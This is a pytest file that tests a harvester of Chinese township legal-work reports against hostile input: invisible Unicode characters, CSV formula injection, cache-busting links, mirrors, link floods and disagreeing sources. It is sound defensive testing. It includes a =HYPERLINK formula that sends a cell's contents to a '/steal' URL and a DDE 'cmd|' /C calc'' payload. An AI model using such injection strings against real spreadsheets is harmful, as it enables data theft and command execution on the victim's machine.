"""Wrong data from hostile text (issue 19, items 10–12): invisible characters, spreadsheet
formulas, conflicting sources, cache-busters, mirrors and floods of new links.

Each test reproduces an attack that once succeeded, against real parts: the demo portals' pages,
a real SQLite file, real release files, pages served on 127.0.0.1."""

from __future__ import annotations

import csv
import itertools
import json
import re
import sqlite3
import unicodedata
from datetime import datetime, timedelta, timezone
from pathlib import Path

import pytest
from pytest_httpserver import HTTPServer
from sitegen.build import _read_csv as site_rows
from sitegen.render import pages
from sitegen.render.figures import FigureIndex
from werkzeug import Request, Response

from dataset.cells import neutralise_cell, restore_cell
from flows import release, store
from flows.harvest.context import SourceNight
from flows.harvest.http import HttpClient
from flows.harvest.registry import parse_sources
from flows.harvest.source import harvest_source
from flows.records import Harvested, Listing, MergeResult, Night, ReleaseInfo, SourceHarvest
from flows.release.files import iter_texts
from flows.store.keys import url_key
from flows.store.raw import RawStore
from parsers import extract_report, read_document
from parsers.models import Document, Observation, Place, Source
from parsers.read.normalise import normalise, strip_format_characters
from tests.conftest import PORTALS, demo_file, seed_text
from tests.helpers import NOW, all_seeds, harvested

ZWSP, ZWJ, BOM, RLO, LRI, PDI = "\u200b", "\u200d", "\ufeff", "\u202e", "\u2066", "\u2069"


def _hujiertai_page_with_format_characters() -> bytes:
    """胡吉尔台乡's demo page with zero-width characters inside its name (everywhere: meta tags,
    title, body), inside figures, and a right-to-left override at the start of its title."""
    page = demo_file("hujiertai").read_text(encoding="utf-8")
    page = page.replace("胡吉尔台乡", f"胡吉尔{ZWSP}台乡")
    page = page.replace('content="胡吉尔', f'content="{RLO}胡吉尔', 1)  # ArticleTitle
    page = page.replace("大型普法宣传活动12场次", f"大型普法宣传活动1{ZWSP}2场次")
    page = page.replace("审查各类合同90件", f"审查各类合同9{ZWJ}0件")
    page = page.replace("受益群众10000人次", f"受益群众10{BOM}0{LRI}00{PDI}人次")
    return page.encode("utf-8")


def test_zero_width_characters_do_not_split_a_township_name_or_a_figure() -> None:
    document = read_document(_hujiertai_page_with_format_characters(), "http://127.0.0.1/t20250120_1001.html")
    assert ZWSP in document.text and RLO in (document.title or "")  # the attack reaches the parser
    extraction = extract_report(document)
    assert extraction.report.place.township == "胡吉尔台乡"
    assert extraction.report.title == "胡吉尔台乡党委书记刘帅2024年度述法报告"
    values = {(o.indicator, o.value) for o in extraction.observations}
    assert ("legal_publicity_events", 12) in values and ("legal_publicity_events", 2) not in values
    assert ("contracts_reviewed", 90) in values
    assert ("people_reached", 10000) in values


def test_quotes_point_into_the_normalised_text_after_format_characters_are_removed() -> None:
    extraction = extract_report(read_document(_hujiertai_page_with_format_characters(), "http://127.0.0.1/a.html"))
    for text in (extraction.text, extraction.original, extraction.report.title or ""):
        assert not any(unicodedata.category(c) == "Cf" for c in text)
    assert extraction.observations
    for o in extraction.observations:
        assert extraction.text[o.start:o.end] == o.quote
    assert "大型普法宣传活动12场次" in [o.quote for o in extraction.observations]


def test_format_characters_in_a_plain_text_and_in_metadata_are_removed() -> None:
    normalised = normalise(f"{BOM}第一段{ZWSP}文字。\n{RLO}全年调解矛盾纠纷1{ZWSP}5起。\u00ad")
    assert normalised.text == "第一段文字。\n全年调解矛盾纠纷15起。"
    document = Document(url="http://127.0.0.1/x.txt", title=f"胡吉尔{ZWSP}台乡2024年法治政府建设年度报告", text="正文",
                        meta={"publisher": f"胡吉{ZWJ}尔台乡人民政府{RLO}"}, format="txt")
    extraction = extract_report(document)
    assert extraction.report.title == "胡吉尔台乡2024年法治政府建设年度报告"
    assert extraction.report.place.township == "胡吉尔台乡"  # a name of the register, hence resolved


def test_every_format_character_is_removed_and_nothing_else() -> None:
    cf = [chr(c) for c in range(0x110000) if unicodedata.category(chr(c)) == "Cf"]
    assert len(cf) > 150
    assert strip_format_characters("a" + "".join(cf) + "b") == "ab"
    kept = "胡吉尔台乡 12次，“法律明白人”\n\t%①Ⅻ ½ é"
    assert strip_format_characters(kept) == kept


def _township_rows() -> tuple[list[dict[str, str]], list[dict[str, str]]]:
    rows = [{"report_id": "0123456789abcdef", "revision": "1", "township": f"胡吉尔{ZWSP}台乡", "county": "尼勒克县",
             "province": "新疆维吾尔自治区", "adcode": "654028", "year": "2024", "kind": "shufa", "published_on": "2025-01-20",
             "on_time": "true", "title": f"{RLO}告报法述度年4202", "url": "http://127.0.0.1/a.html", "status": "active"}]
    observations = [{"report_id": "0123456789abcdef", "indicator": "disputes_mediated", "value": "81", "unit": "件",
                     "qualifier": "exact", "quote": f"成功调解处理矛盾纠纷{LRI}81件{PDI}", "canonical": "true"}]
    return rows, observations


def test_a_right_to_left_override_in_a_title_never_reaches_the_html() -> None:
    rows, observations = _township_rows()
    place = pages.Place(code="654028208", name=f"胡吉尔{ZWSP}台乡", county="尼勒克县", province="新疆维吾尔自治区")
    page = pages.render_township(place, rows, observations, {}, {"0123456789abcdef": f"{RLO}正文{ZWSP}第一段"}, [])
    html = page.content + page.title
    assert not any(unicodedata.category(c) == "Cf" for c in html)
    assert "告报法述度年4202" in html and "胡吉尔台乡" in html  # the text itself is in the archive bundle, not inlined
    markdown = pages.render_indicator_year("disputes_mediated", "2024", ["2024"], {r["report_id"]: r for r in rows}, observations,
                                           {"件": [1, 81.0]}, {"件": {("新疆维吾尔自治区", "尼勒克县"): [81.0, 1, False]}}, {})
    assert not any(unicodedata.category(c) == "Cf" for c in markdown)
    assert pages.text(f"{RLO}标题") == "标题" and pages.html_text(f"<b>{RLO}</b>") == "&lt;b&gt;&lt;/b&gt;"


# --- 11: formulas in CSV cells ------------------------------------------------------------------

FORMULA_TITLE = '=HYPERLINK("http://127.0.0.1/steal?"&A1,"西仓镇2024年法治政府建设年度报告")'
FORMULA_LINES = "\n@SUM(1+1)*cmd|' /C calc'!A0全年调解矛盾纠纷12起。\n-2+3全年发放宣传资料300份。"


def _read(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.DictReader(handle))


def _cut(root: Path, items: list[Harvested]) -> Path:
    with store.open_store(root / "fazhi.sqlite") as conn:
        store.merge(conn, Night.of(NOW, items))
        info = release.cut_release(conn, root / "releases", [Source(id="demo", name="演示", listing=["http://127.0.0.1/"])], NOW)
    assert info is not None
    return Path(info.path)


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised_and_jsonl_keeps_the_true_text(tmp_path: Path) -> None:
    item = harvested("xicang", seed_text("xicang") + FORMULA_LINES, title=FORMULA_TITLE)
    negative = Observation(indicator="disputes_mediated", value=-3, unit="起", qualifier="exact", quote="调解-3起", start=0, end=5,
                           section="-总体情况")
    item = item.model_copy(update={"extraction": item.extraction.model_copy(update={"observations": [*item.extraction.observations, negative]})})
    folder = _cut(tmp_path, [item])

    report = _read(folder / "reports.csv")[0]
    assert report["title"] == "'" + FORMULA_TITLE
    assert report["url"].startswith("http") and report["revision"] == "1"
    observations = _read(folder / "observations.csv")
    quotes = [o["quote"] for o in observations]
    assert "'@SUM(1+1)*cmd|' /C calc'!A0全年调解矛盾纠纷12起" in quotes
    assert "'-2+3全年发放宣传资料300份" in quotes
    assert not any(q.startswith(("=", "+", "-", "@", "\t", "\r")) for q in quotes)
    minus = next(o for o in observations if o["quote"] == "调解-3起")
    assert minus["value"] == "-3" and minus["section"] == "'-总体情况"  # the number stays a number; the text is text
    indicators = _read(folder / "indicators.csv")
    assert all(not (cell or "").startswith(("=", "+", "@")) for row in indicators for cell in row.values())

    record = next(iter_texts(folder))
    assert record["report"]["title"] == FORMULA_TITLE  # the texts (JSON lines): the true text
    assert "@SUM(1+1)" in record["text"]
    assert FORMULA_TITLE in (folder / "CHANGELOG.md").read_text(encoding="utf-8")  # the change log reads the true text back

    # The site reads the CSVs and shows the true text, not the mark.
    assert site_rows(folder / "reports.csv")[0]["title"] == FORMULA_TITLE
    shown = [o["quote"] for o in FigureIndex(folder / "observations.csv", {report["report_id"]}).of_report(report["report_id"])]
    assert "@SUM(1+1)*cmd|' /C calc'!A0全年调解矛盾纠纷12起" in shown and "调解-3起" in shown


def test_neutralising_a_cell_is_undone_exactly() -> None:
    for value in ["=1+1", "+86", "-", "@x", "\tx", "\rx", "'=1", "''", "'", "普通标题", "", "1-2", "a=b"]:
        written = neutralise_cell(value)
        assert not written.startswith(("=", "+", "-", "@", "\t", "\r"))
        assert restore_cell(written) == value


# --- 12: conflicts, cache-busters, mirrors, floods --------------------------------------------------

NIGHT = datetime(2026, 11, 22, 18, 0, tzinfo=timezone.utc)
XICANG = (PORTALS / "region/info/1046/31805.htm").read_text(encoding="utf-8")  # 西仓镇, VSB-style, as the demo serves it
HTML = "text/html; charset=utf-8"


def xicang_page(draft: int | None = None, mediated: str = "9件") -> str:
    """西仓镇's page; ``draft`` makes its text differ (another report), ``mediated`` one figure."""
    page = XICANG.replace("9件", mediated, 1)
    return page if draft is None else page.replace("</p>", f"（第{draft}稿）</p>", 1)


def listing(links: list[tuple[str, str]]) -> str:
    items = "".join(f'<li><a href="{href}">{title}</a><span>2025-12-12</span></li>' for href, title in links)
    return f'<html><head><meta charset="utf-8"></head><body><div class="list"><ul>{items}</ul></div></body></html>'


TITLE = "西仓镇2025年法治政府建设工作情况报告"


def make_source(server: HTTPServer, source_id: str, column: str, **fields: int) -> Source:
    return Source(id=source_id, name="演示平台", listing=[server.url_for(column)], allowed_domains=["localhost"], rate_per_second=50, **fields)


def night(root: Path, sources: list[Source], now: datetime) -> tuple[list[SourceHarvest], MergeResult, ReleaseInfo | None]:
    """One night as the flow runs it, without Prefect: harvest each source, one merge, one release."""
    with store.open_store(root / "fazhi.sqlite") as conn:
        known, validators = store.known_keys(conn), store.validators(conn)
    harvests = [harvest_source(SourceNight(HttpClient(allow_private=True), source, RawStore(root / "raw"), now, known=known, validators=validators)) for source in sources]
    with store.open_store(root / "fazhi.sqlite") as conn:
        merged = store.merge(conn, Night(now=now, harvests=harvests))
        cut = release.cut_release(conn, root / "releases", sources, now)
    return harvests, merged, cut


def fetched_paths(server: HTTPServer) -> list[str]:
    return [request.path for request, _ in server.log if request.path.startswith("/art/")]


@pytest.fixture
def cache_busting_portal(httpserver: HTTPServer) -> HTTPServer:
    """A column whose one report link carries a new ?_t= (and ;jsessionid=) every time it is listed."""
    counter = itertools.count(1_700_000_000)

    def column(request: Request) -> Response:
        stamp = next(counter)
        return Response(listing([(f"/art/1.htm;jsessionid=S{stamp}?_t={stamp}&utm_source=wx", TITLE)]), content_type=HTML)

    httpserver.expect_request("/robots.txt").respond_with_data("", status=404)
    httpserver.expect_request("/col/index.htm").respond_with_handler(column)
    httpserver.expect_request(re.compile(r"^/art/1\.htm(;jsessionid=S\d+)?$")).respond_with_data(xicang_page(), content_type=HTML)
    return httpserver


def test_a_cache_buster_in_a_link_makes_no_new_report_and_no_new_release(cache_busting_portal: HTTPServer, tmp_path: Path) -> None:
    source = make_source(cache_busting_portal, "region", "/col/index.htm")
    _, first, cut = night(tmp_path, [source], NIGHT)
    assert len(first.new) == 1 and cut is not None
    _, second, again = night(tmp_path, [source], NIGHT + timedelta(days=1))
    assert not second.new and again is None  # no new report, no release
    assert len(fetched_paths(cache_busting_portal)) == 1  # the second night knew the page: not fetched again
    with store.open_store(tmp_path / "fazhi.sqlite") as conn:
        assert conn.execute("SELECT url_key FROM reports").fetchall()[0][0] == "/art/1.htm"


def test_url_identity_ignores_volatile_parameters_and_keeps_the_others() -> None:
    assert url_key("http://127.0.0.1:1/a.jsp?id=7&_t=1&timestamp=3&rnd=5&random=6&sessionid=9&JSESSIONID=a&utm_campaign=b") == "/a.jsp?id=7"
    # t, v, _ and ver: cache-busters when their value is a clock, a random number or a hash …
    assert url_key("http://x/a.jsp?id=7&T=1732345678901&_=1732345678&v=0.83412&ver=9f86d081884c7d659a2feaa0c55ad015") == "/a.jsp?id=7"
    # … and kept when they may choose the page
    assert url_key("http://x/show.jsp?v=123") == "/show.jsp?v=123" and url_key("http://x/a.jsp?t=news&id=2") == "/a.jsp?t=news&id=2"
    assert url_key("http://x/art/1.htm;jsessionid=0A1B2C") == "/art/1.htm"
    assert url_key("http://x/list.jsp?page=2&columnid=5") == "/list.jsp?page=2&columnid=5"  # unchanged, in its order
    assert url_key("http://x/a.htm?b=1&&a=2") == "/a.htm?b=1&&a=2"  # a key without volatile parameters is as it was


@pytest.fixture
def mirroring_portal(httpserver: HTTPServer) -> HTTPServer:
    """One report under five URLs (each listed, each answering the same page)."""
    httpserver.expect_request("/robots.txt").respond_with_data("", status=404)
    httpserver.expect_request("/col/index.htm").respond_with_data(
        listing([(f"/art/{n}.htm", f"{TITLE}（{n}）") for n in range(1, 6)]), content_type=HTML)
    for n in range(1, 6):
        httpserver.expect_request(f"/art/{n}.htm").respond_with_data(xicang_page(), content_type=HTML)
    return httpserver


def test_the_same_text_at_many_urls_is_one_report_with_its_other_urls(mirroring_portal: HTTPServer, tmp_path: Path) -> None:
    source = make_source(mirroring_portal, "region", "/col/index.htm")
    _, merged, cut = night(tmp_path, [source], NIGHT)
    assert len(merged.new) == 1 and len(merged.mirrored) == 4 and cut is not None
    reports = _read(Path(cut.path) / "reports.csv")
    assert len(reports) == 1
    assert reports[0]["url"].endswith("/art/1.htm")
    assert sorted(u.rsplit("/", 1)[1] for u in reports[0]["mirror_urls"].split(" ")) == ["2.htm", "3.htm", "4.htm", "5.htm"]
    with store.open_store(tmp_path / "fazhi.sqlite") as conn:
        assert conn.execute("SELECT count(*) FROM reports").fetchone()[0] == 1
        assert conn.execute("SELECT count(*) FROM mirrors").fetchone()[0] == 4
    _, again, second_cut = night(tmp_path, [source], NIGHT + timedelta(days=1))
    assert not again.new and not again.mirrored and second_cut is None
    assert len(fetched_paths(mirroring_portal)) == 5  # the mirrors are known links: not fetched again


@pytest.fixture
def flooding_portal(httpserver: HTTPServer) -> HTTPServer:
    """A column listing 25 different 'reports' at once."""
    httpserver.expect_request("/robots.txt").respond_with_data("", status=404)
    httpserver.expect_request("/col/index.htm").respond_with_data(
        listing([(f"/art/{n}.htm", f"{TITLE}（{n}）") for n in range(25)]), content_type=HTML)
    for n in range(25):
        httpserver.expect_request(f"/art/{n}.htm").respond_with_data(xicang_page(draft=n), content_type=HTML)
    return httpserver


def test_a_source_stops_at_its_cap_of_new_reports_and_says_so(flooding_portal: HTTPServer, tmp_path: Path) -> None:
    source = make_source(flooding_portal, "region", "/col/index.htm", max_new_reports=10)
    harvests, merged, _ = night(tmp_path, [source], NIGHT)
    assert len(merged.new) == 10 and len(fetched_paths(flooding_portal)) == 10
    [failure] = harvests[0].failures
    assert "max_new_reports (10)" in failure.reason and "the other 15 wait" in failure.reason
    harvests, merged, _ = night(tmp_path, [source], NIGHT + timedelta(days=1))
    assert len(merged.new) == 10 and "the other 5 wait" in harvests[0].failures[0].reason
    harvests, merged, _ = night(tmp_path, [source], NIGHT + timedelta(days=2))
    assert len(merged.new) == 5 and not harvests[0].failures


def test_max_new_reports_defaults_to_500_and_is_read_from_sources_yaml() -> None:
    default, capped = parse_sources(
        "sources:\n- {id: a, name: A, listing: ['http://a.gov.cn/']}\n- {id: b, name: B, listing: ['http://b.gov.cn/'], max_new_reports: 50}\n")
    assert default.max_new_reports == 500 and capped.max_new_reports == 50


@pytest.fixture
def two_sources_portal(httpserver: HTTPServer) -> HTTPServer:
    """西仓镇's 2025 report on a county portal and on the regional platform, one figure different."""
    httpserver.expect_request("/robots.txt").respond_with_data("", status=404)
    httpserver.expect_request("/county/index.htm").respond_with_data(listing([("/art/county.htm", TITLE)]), content_type=HTML)
    httpserver.expect_request("/region/index.htm").respond_with_data(listing([("/art/region.htm", TITLE)]), content_type=HTML)
    httpserver.expect_request("/art/county.htm").respond_with_data(xicang_page(mediated="9件"), content_type=HTML)
    httpserver.expect_request("/art/region.htm").respond_with_data(xicang_page(mediated="19件"), content_type=HTML)
    return httpserver


def test_two_sources_that_disagree_keep_both_reports_each_flagged(two_sources_portal: HTTPServer, tmp_path: Path) -> None:
    county = make_source(two_sources_portal, "county", "/county/index.htm")
    region = make_source(two_sources_portal, "region", "/region/index.htm")
    _, merged, cut = night(tmp_path, [county, region], NIGHT)
    assert len(merged.new) == 2 and cut is not None
    folder = Path(cut.path)
    reports = {r["source_id"]: r for r in _read(folder / "reports.csv")}
    assert set(reports) == {"county", "region"} and reports["county"]["township"] == reports["region"]["township"] == "西仓镇"
    records = {r["report_id"]: r for r in iter_texts(folder)}
    flagged = {rid: [f for f in r["flags"] if f["code"] == store.CONFLICT_FLAG] for rid, r in records.items()}
    assert all(len(flags) == 1 for flags in flagged.values()), flagged
    county_id, region_id = reports["county"]["report_id"], reports["region"]["report_id"]
    indicator = flagged[county_id][0]["detail"].split(":")[0]
    assert region_id in flagged[county_id][0]["detail"] and county_id in flagged[region_id][0]["detail"]
    in_csv = [o for o in _read(folder / "observations.csv") if o["indicator"] == indicator and o["canonical"] == "true"]
    assert {o["report_id"] for o in in_csv if store.CONFLICT_FLAG in o["flag_codes"]} == {county_id, region_id}
    assert {o["value"] for o in in_csv} >= {"9", "19"}


def test_a_conflict_is_lifted_when_the_sources_agree_again(tmp_path: Path) -> None:
    text = seed_text("xicang")
    changed = text.replace("9件", "19件", 1)
    assert changed != text
    with store.open_store(tmp_path / "fazhi.sqlite") as conn:
        store.merge(conn, Night.of(NOW, [harvested("xicang", source_id="a"), harvested("xicang", changed, source_id="b")]))
        assert conn.execute("SELECT count(*) FROM conflicts").fetchone()[0] == 2
        flags = [json.loads(r[3]) for r in store.current_report_records(conn)]
        assert all(any(f["code"] == store.CONFLICT_FLAG for f in fs) for fs in flags)
        store.merge(conn, Night.of(NOW + timedelta(days=1), [harvested("xicang", text, source_id="b")]))  # b's page revised: agrees now
        assert conn.execute("SELECT count(*) FROM conflicts").fetchone()[0] == 0
        assert conn.execute("SELECT count(*) FROM revisions").fetchone()[0] == 3  # nothing lost


def test_a_store_of_the_previous_schema_gets_the_same_place_keys_as_new_merges(tmp_path: Path) -> None:
    """The migration fills place_key in SQL; it must agree with store.place_key, which new merges use."""
    db = tmp_path / "old.sqlite"
    conn = sqlite3.connect(db, isolation_level=None)
    for number in range(2):  # the store as the previous release of Fazhi Atlas left it
        conn.executescript(f"BEGIN; {store.MIGRATIONS[number]}; PRAGMA user_version = {number + 1}; COMMIT;")
    coded = all_seeds()[0]
    report = coded.extraction.report.model_copy(update={"place": Place(township="胡吉尔台乡", township_code="654028201")})
    coded = coded.model_copy(update={"url_key": "/coded.html", "extraction": coded.extraction.model_copy(update={"report": report})})
    named = all_seeds()[0]  # a place without a code (identified before the register): its names make the key
    unnamed = named.extraction.report.model_copy(update={"place": Place(township="胡吉尔台乡", county="尼勒克县", province="新疆维吾尔自治区")})
    named = named.model_copy(update={"url_key": "/named.html", "extraction": named.extraction.model_copy(update={"report": unnamed})})
    items = [*all_seeds(), coded, named]
    for item in items:
        rid = store.report_id(item.source_id, item.url_key)
        conn.execute("INSERT INTO reports (report_id, source_id, url_key, url, first_seen, last_seen, current_revision) VALUES (?, ?, ?, ?, ?, ?, 1)",
                     (rid, item.source_id, item.url_key, item.url, NOW.isoformat(), NOW.isoformat()))
        ex = item.extraction  # a revision row as schema 2 had it (no extractor tables yet)
        conn.execute("INSERT INTO revisions VALUES (?, 1, ?, ?, ?, ?, '[]', ?, ?)",
                     (rid, "0" * 64, item.sha256, NOW.isoformat(), ex.report.model_dump_json(), ex.text, ex.original))
    conn.close()
    with store.open_store(db) as conn:
        assert conn.execute("PRAGMA user_version").fetchone()[0] == store.SCHEMA_VERSION
        found = {r["report_id"]: r["place_key"] for r in conn.execute("SELECT report_id, place_key FROM reports")}
    expected = {store.report_id(i.source_id, i.url_key): store.place_key(i.extraction.report) for i in items}
    assert found == expected
    assert expected[store.report_id("demo", "/coded.html")] == "654028201|2024"
    assert any(key and key.startswith("新疆维吾尔自治区|尼勒克县|胡吉尔台乡|") for key in expected.values())


def test_a_report_whose_own_url_is_gone_stays_active_while_a_mirror_is_listed(tmp_path: Path) -> None:
    original = harvested("xihu")
    mirror = original.model_copy(update={"url_key": "/copy/xihu.html", "url": "http://demo.gov.cn/copy/xihu.html"})
    with store.open_store(tmp_path / "fazhi.sqlite") as conn:
        merged = store.merge(conn, Night.of(NOW, [original, mirror]))
        assert len(merged.new) == 1 and merged.mirrored == ["http://demo.gov.cn/copy/xihu.html"]
        only_mirror = Listing(source_id="demo", complete=True, url_keys=["/copy/xihu.html"])
        assert not store.merge(conn, Night.of(NOW + timedelta(days=1), [], [], [only_mirror])).withdrawn
        assert store.merge(conn, Night.of(NOW + timedelta(days=2), [], [], [Listing(source_id="demo", complete=True, url_keys=[])])).withdrawn


def test_a_rechecked_mirror_with_a_text_of_its_own_becomes_a_report(tmp_path: Path) -> None:
    original = harvested("xihu")
    mirror = original.model_copy(update={"url_key": "/copy/xihu.html", "url": "http://demo.gov.cn/copy/xihu.html"})
    changed = harvested("xihu", seed_text("xihu") + "\n全年发放宣传资料800份。")
    changed = changed.model_copy(update={"url_key": "/copy/xihu.html", "url": "http://demo.gov.cn/copy/xihu.html"})
    with store.open_store(tmp_path / "fazhi.sqlite") as conn:
        store.merge(conn, Night.of(NOW, [original, mirror]))
        merged = store.merge(conn, Night.of(NOW + timedelta(days=1), [changed]))
        assert merged.new == [store.report_id("demo", "/copy/xihu.html")]
        assert conn.execute("SELECT count(*) FROM mirrors").fetchone()[0] == 0
        assert conn.execute("SELECT count(*) FROM reports").fetchone()[0] == 2
        assert ("demo", "/copy/xihu.html") in store.known_keys(conn)
